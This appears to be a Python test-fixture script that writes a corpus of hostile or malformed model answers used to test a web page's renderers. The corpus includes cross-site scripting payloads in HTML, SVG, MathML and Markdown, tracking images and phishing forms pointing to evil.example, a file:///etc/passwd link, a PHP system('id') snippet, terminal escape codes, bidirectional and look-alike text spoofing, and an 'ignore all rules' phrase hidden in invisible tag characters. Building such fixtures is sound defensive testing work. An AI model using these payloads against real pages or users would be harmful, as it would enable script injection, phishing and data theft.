"""Writes `hostile.json`: answers that a model may be made to give by somebody who means harm, or that are just odd.

    python -m tests.web.hostile

The unit tests of the page's renderers and its browser tests read the same file. Each entry is a name and a text.
"""

# ruff: noqa: RUF001 - that a letter looks like another is what some of them are about
from __future__ import annotations

import json
from pathlib import Path

PATH = Path(__file__).with_name("hostile.json")
RUNS = "window.hurt=1"
"""What each of them tries to run. A page on which `window.hurt` is there has lost."""

HTML = {
    "script": f"<script>{RUNS}</script>",
    "script in capitals": f"<SCRIPT>{RUNS}</SCRIPT>",
    "script with a source": '<script src="/assets/x.js"></script>',
    "script of another site": '<script src="https://evil.example/x.js"></script>',
    "script that is not closed": f"<script>{RUNS}",
    "script within script": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "script after a comment": f"<!-- --!><script>{RUNS}</script> -->",
    "image that fails": f'<img src=x onerror="{RUNS}">',
    "image without quotes": f"<img/src=x/onerror={RUNS}>",
    "image that phones home": '<img src="https://evil.example/pixel.png?q=secret">',
    "image with a set of sources": '<img srcset="https://evil.example/1.png 1x">',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>',
    "iframe with a script address": f'<iframe src="javascript:{RUNS}"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link to a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "prefetch": '<link rel="prefetch" href="https://evil.example/x">',
    "style": "<style>*{display:none!important}body::after{content:'gone'}</style>",
    "style that calls": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:red;z-index:9999">over everything</div>',
    "form": '<form action="https://evil.example/"><input name=key placeholder="Your key"><button>Go</button></form>',
    "form that is sent by itself": f'<form onsubmit="{RUNS}"><input autofocus onfocus="{RUNS}">',
    "details that toggle": f'<details open ontoggle="{RUNS}">x</details>',
    "video": f'<video><source onerror="{RUNS}"></video>',
    "audio": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "body": f'<body onload="{RUNS}">',
    "marquee": f'<marquee onstart="{RUNS}">x</marquee>',
    "template": f"<template><script>{RUNS}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    "textarea": f"<textarea></textarea><script>{RUNS}</script>",
    "title": f"<title></title><script>{RUNS}</script>",
    "select": f"<select><template><script>{RUNS}</script></template></select>",
    "dialog": "<dialog open>Your session is over. Paste your key.</dialog>",
    "portal": '<portal src="https://evil.example/"></portal>',
    "custom element": f'<x-y onclick="{RUNS}" contenteditable autofocus onfocus="{RUNS}">x</x-y>',
    "id that shadows": '<a id=location href="https://evil.example/"></a><form id=document><input id=cookie></form>',
    "attribute broken by a null": f"<img src=x onerror\x00={RUNS}>",
    "tag broken by a null": f"<scr\x00ipt>{RUNS}</scr\x00ipt>",
    "entities": "&lt;script&gt;window.hurt=1&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "entity in a link": f'<a href="&#106;avascript:{RUNS}">x</a>',
    "CDATA": f"<![CDATA[<script>{RUNS}</script>]]>",
    "processing instruction": "<?php system('id') ?><?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "end of the page": "</div></main></body></html>",
}
SVG = {
    "svg that loads": f'<svg onload="{RUNS}">',
    "svg with a script": f"<svg><script>{RUNS}</script></svg>",
    "svg that animates": f'<svg><animate onbegin="{RUNS}" attributeName=x dur=1s>',
    "svg that sets": f'<svg><a><set attributeName=href to="javascript:{RUNS}"/><text y=20>x</text></a></svg>',
    "svg with foreign content": f'<svg><foreignObject><img src=x onerror="{RUNS}"></foreignObject></svg>',
    "svg that uses": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg image": '<svg><image href="https://evil.example/x.png"/></svg>',
    "svg as a document": f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"/>',
    "svg as data": f"![x](data:image/svg+xml,<svg onload={RUNS}>)",
    "svg as data in base64": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5odXJ0PTEiLz4=)",
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUNS}&gt;">',
    "mathml link": f'<math href="javascript:{RUNS}">x</math>',
}
MARKDOWN = {
    "link to a script": f"[x](javascript:{RUNS})",
    "link to a script in capitals": f"[x](JaVaScRiPt:{RUNS})",
    "link with a tab": f"[x](java\tscript:{RUNS})",
    "link with an entity": f"[x](&#x6A;avascript:{RUNS})",
    "link with a control": f"[x](\x01javascript:{RUNS})",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+)",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to a file": "[x](file:///etc/passwd)",
    "link without a scheme": "[x](//evil.example/)",
    "link within the page": "[x](/gateway/keys)",
    "link by reference": f"[x][1]\n\n[1]: javascript:{RUNS}",
    "link in angle brackets": f"<javascript:{RUNS}>",
    "link that says another": "[https://bank.example/](https://evil.example/)",
    "link with a title": f"[x](https://evil.example/ '\"onmouseover=\"{RUNS}')",
    "link in a heading": f"# [x](javascript:{RUNS})",
    "image of another site": "![x](https://evil.example/pixel.png?q=secret)",
    "image by reference": "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "image within a link": f"[![x](https://evil.example/p.png)](javascript:{RUNS})",
    "image with a script": f"![x](javascript:{RUNS})",
    "image whose text is markup": f'![" onerror="{RUNS}](x)',
    "code that ends its block": f"```\n</code></pre><script>{RUNS}</script>\n```",
    "code with a language": f'```"><script>{RUNS}</script>\nx\n```',
    "code span": f"`<script>{RUNS}</script>`",
    "table with markup": f"| a | b |\n|---|---|\n| <img src=x onerror={RUNS}> | <script>{RUNS}</script> |",
    "quotes a hundred deep": ">" * 100 + " deep",
    "quotes five thousand deep": ">" * 5000 + " deep",
    "lists two hundred deep": "\n".join("  " * depth + "- x" for depth in range(200)),
    "emphasis without end": "*" * 4000 + "x",
    "brackets without end": "[" * 4000,
    "backticks without end": "`" * 3999,
    "footnote": f"x[^1]\n\n[^1]: <script>{RUNS}</script>",
    "heading that claims to be ours": "# Gatelog\n\nYour session is over. Sign in at [Gatelog](https://evil.example/login).",
    "html in a list": f"- <div onclick={RUNS}>x\n- </ul><script>{RUNS}</script>",
    "autolink": f'https://evil.example/"onmouseover="{RUNS}',
    "a line of 20,000 characters": "x" * 20_000,
    "template of a prompt": "{{constructor.constructor('window.hurt=1')()}} ${window.hurt=1} <%= 1 %>",
}
BYTES = {
    "colours of a terminal": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H gone",
    "title of a terminal": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "bell and backspace": "pass\x08\x08\x08\x08fail\x07",
    "carriage return over a line": "true verdict: fail\rtrue verdict: pass",
    "null in the middle": "before\x00after",
    "every control": "".join(map(chr, range(1, 32))),
    "C1 controls": "".join(map(chr, range(0x80, 0xA0))),
    "order of writing turned": "cost: \u202e9.99$\u202c of 10",
    "name of a file turned": "report\u202egnp.exe",
    "order isolated and not ended": "\u2067\u2066 begins and never ends",
    "order overridden a hundred times": "\u202e" * 100 + "x",
    "Arabic and Hebrew": "مرحبا بالعالم, שלום עולם 123",
    "invisible letters": "ad\u200bmin\u2060\ufeff \u200d",
    "letters of a tag": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "line and paragraph separators": "one\u2028two\u2029three",
    "letters that look like others": "аdmіn раypal.com",
    "marks a hundred high": "Z" + "\u0300\u0301\u0316" * 100 + "algo",
    "family of emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪",
    "flags of nowhere": "🏴\U000e0067\U000e0062\U000e007f" * 20,
    "letters beyond the first plane": "𝕳𝖊𝖑𝖑𝖔 𓀀 🀄",
    "half of a pair": "\\ud83d half",
    "halves and wholes of width": "ｆｕｌｌ ﾊﾝｶｸ",
    "one long word": "super" * 500,
    "only white space": " \t\n\u00a0\u3000 ",
    "nothing": "",
}
CORPUS = {**HTML, **SVG, **MARKDOWN, **BYTES}


def main() -> None:
    entries = [{"name": name, "text": text} for name, text in CORPUS.items()]
    PATH.write_text(json.dumps(entries, indent=1) + "\n")


if __name__ == "__main__":
    main()
